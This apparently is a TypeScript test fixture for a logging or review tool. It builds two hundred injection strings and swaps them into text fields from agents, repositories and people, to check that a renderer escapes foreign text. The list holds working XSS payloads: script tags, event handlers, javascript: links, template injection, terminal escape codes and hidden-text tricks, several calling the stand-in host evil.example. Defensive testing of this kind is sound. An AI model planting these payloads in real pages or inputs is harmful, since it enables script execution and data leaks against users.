/**
 * Two hundred texts that try to run, load, navigate, break out of where they are shown, or look like something else.
 * What succeeds calls `pwned()` or asks for something at `evil.example`.
 */
import { ReviewSection } from '../../shared/goal/vocabulary.ts';
const bare = [
  '<script>pwned()</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<script type="module">import "https://evil.example/m.js"</script>',
  '<img src=x onerror=pwned()>',
  '<img src="https://evil.example/pixel.png">',
  '<img srcset="https://evil.example/a.png 1x" alt>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:pwned()"><text y=20>see</text></a></svg>',
  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:pwned()">see</maction></math>',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x">',
  '<video autoplay onplay=pwned()><source src="https://evil.example/v.mp4" onerror=pwned()></video>',
  '<audio src="https://evil.example/a.ogg" autoplay onerror=pwned()>',
  '<body onload=pwned()>',
  '<details open ontoggle=pwned()>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()>',
  '<marquee onstart=pwned()>',
  '<form action="https://evil.example/" id=f><button form=f>Accept and land</button></form>',
  '<button formaction="javascript:pwned()">Accept</button>',
  '<a href="javascript:pwned()">read the proof</a>',
  '<a href="https://evil.example/" target=_blank ping="https://evil.example/p">log</a>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css); * { display: none }</style>',
  '<div style="background:url(https://evil.example/b.png);position:fixed;inset:0">',
  '<template shadowrootmode=open><script>pwned()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '<x contenteditable onblur=pwned() tabindex=0 autofocus>see</x>',
  '![x](https://evil.example/md.png)',
  '[Accept](javascript:pwned())',
  '<https://evil.example/auto>',
  '[a]: https://evil.example/ref "x"',
  '```html\n<script>pwned()</script>\n```',
  'javascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '#{pwned()}',
  '__proto__',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007',
  '\u202Etxt.exe\u202C \u2066hidden\u2069 \u200B\u00AD\u{E0041}',
  '\u0000\u0007\u0008\u001b[2J\u001b[31mred\u001b[0m\r\noverwritten',
];

const wrappings: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"'\`>${payload}`,
  (payload) => `</title></textarea></style></script>-->${payload}`,
  (payload) => `\u202E${payload}\u0000`,
];

export const payloads: readonly string[] = wrappings.flatMap((wrap) => bare.map(wrap));

/** Fields whose text comes from agents, repositories, programs or people. */
const foreign = new Set(
  'title text summary message context subject label costOfWaiting note notes what path files outside name rule description acceptance writeSet readSet failedTests redToGreen greenToRed red argv source reason branch delta detail paths warnings isolationNote lockedChanged file subfolder script custodyRef'.split(
    ' ',
  ),
);
/** Names that the log chooses from. */
const own = new Set<string>([
  'heuristic',
  'detected',
  'agent',
  'omk.json',
  ...ReviewSection.shape.name.options,
]);

/** The same text becomes the same payload everywhere, so that gates and files keep belonging together. */
export function createPoisoner(): <T>(value: T) => T {
  const given = new Map<string, string>();
  const poisonText = (text: string): string => {
    const known = given.get(text);
    if (known !== undefined) return known;
    const payload = payloads[given.size % payloads.length] ?? '';
    const unique = given.size < payloads.length ? payload : `${payload} ${given.size}`;
    given.set(text, unique.slice(0, 180));
    return unique.slice(0, 180);
  };
  const poison = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') {
      return foreign.has(key) && value !== '' && !own.has(value) ? poisonText(value) : value;
    }
    if (Array.isArray(value)) return value.map((one) => poison(one, key));
    if (value === null || typeof value !== 'object') return value;
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, poison(one, name)]));
  };
  // The shape is kept; only texts change.
  return <T>(value: T) => poison(value, '') as T;
}
